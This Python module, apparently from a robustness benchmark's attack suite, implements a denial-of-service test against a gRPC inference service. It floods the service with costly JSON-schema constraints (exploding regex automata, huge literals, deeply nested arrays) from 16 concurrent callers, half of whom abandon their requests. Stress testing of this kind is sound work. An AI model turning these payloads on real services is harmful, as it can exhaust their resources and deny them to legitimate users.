"""Constraints within every bound of their text that cost as much as they can: to compile, and for each token."""

import asyncio
import itertools
import json
import time
from typing import Any

import grpc

from bench.attacks.attack import Attack, Outcome, Question, Victim
from kestrel_client.v1 import vision_service_pb2 as wire
from kestrel_client.v1.vision_service_pb2_grpc import VisionServiceStub

NUM_CALLERS = 16
_GONE_AFTER_S = 0.1
"""Every second caller does not wait for its answer."""
_TIMEOUT_S = 30.0
_MAX_ANSWER_S = 1.0


def _combined_patterns(number: int) -> dict[str, Any]:
    """Automata of which some 2^30 states are distinct, and whose product is asked for."""
    patterns = [
        f"^(.*[{letter}].{{{number % 300 + index}}})*$" for index, letter in enumerate("abcdefgh", start=30)
    ]
    return {"allOf": [{"type": "string", "pattern": pattern} for pattern in patterns]}


def _hidden_patterns(number: int) -> dict[str, Any]:
    """The same where the first token of the answer does not show it."""
    properties = {"first": {"type": "boolean"}, "second": _combined_patterns(number)}
    return {"type": "object", "properties": properties, "required": list(properties), "additionalProperties": False}


def _long_literal(number: int) -> dict[str, Any]:
    return {"const": f"{number}{'x' * 60_000}"}


def _nested_literals(number: int) -> dict[str, Any]:
    """Lists of lists of one value, all of which must come."""
    schema: dict[str, Any] = {"const": f"{number}{'x' * 100}"}
    for count in (50, 50, 50):
        schema = {"type": "array", "minItems": count, "maxItems": count, "items": schema}
    return schema


def _counted(number: int) -> dict[str, Any]:
    return {"type": "string", "pattern": f"^(.{{0,{100 + number % 50}}}a){{6}}$"}


SCHEMAS = (_combined_patterns, _hidden_patterns, _long_literal, _nested_literals, _counted)


def strike(victim: Victim, seconds: float, prepared: None) -> Outcome:
    """Several callers ask without a pause, each time with another schema."""
    return asyncio.run(_strike(victim, seconds))


async def _strike(victim: Victim, seconds: float) -> Outcome:
    outcome, numbers, end = Outcome(), itertools.count(), time.monotonic() + seconds
    async with grpc.aio.insecure_channel(victim.address) as channel:
        stub: Any = VisionServiceStub(channel)
        metadata = (("authorization", f"Bearer {victim.token}"),)

        async def caller(index: int) -> None:
            while time.monotonic() < end:
                number = next(numbers)
                schema = json.dumps(SCHEMAS[number % len(SCHEMAS)](number))
                request = wire.CompleteQueryRequest(question="what?", sampling={"max_tokens": 64})
                request.constraint.json_schema = schema
                timeout_s = _GONE_AFTER_S if index % 2 else _TIMEOUT_S
                try:
                    await stub.CompleteQuery(request, timeout=timeout_s, metadata=metadata)
                    outcome["OK"] += 1
                except grpc.aio.AioRpcError as error:
                    outcome[error.code().name] += 1

        await asyncio.gather(*map(caller, range(NUM_CALLERS)))
    return outcome


ATTACKS = (
    Attack(
        "constraints",
        f"{NUM_CALLERS} callers with constraints that are made to cost time and memory, half of whom do not wait",
        strike,
        question=Question(is_constrained=True, max_s=_MAX_ANSWER_S),
    ),
)
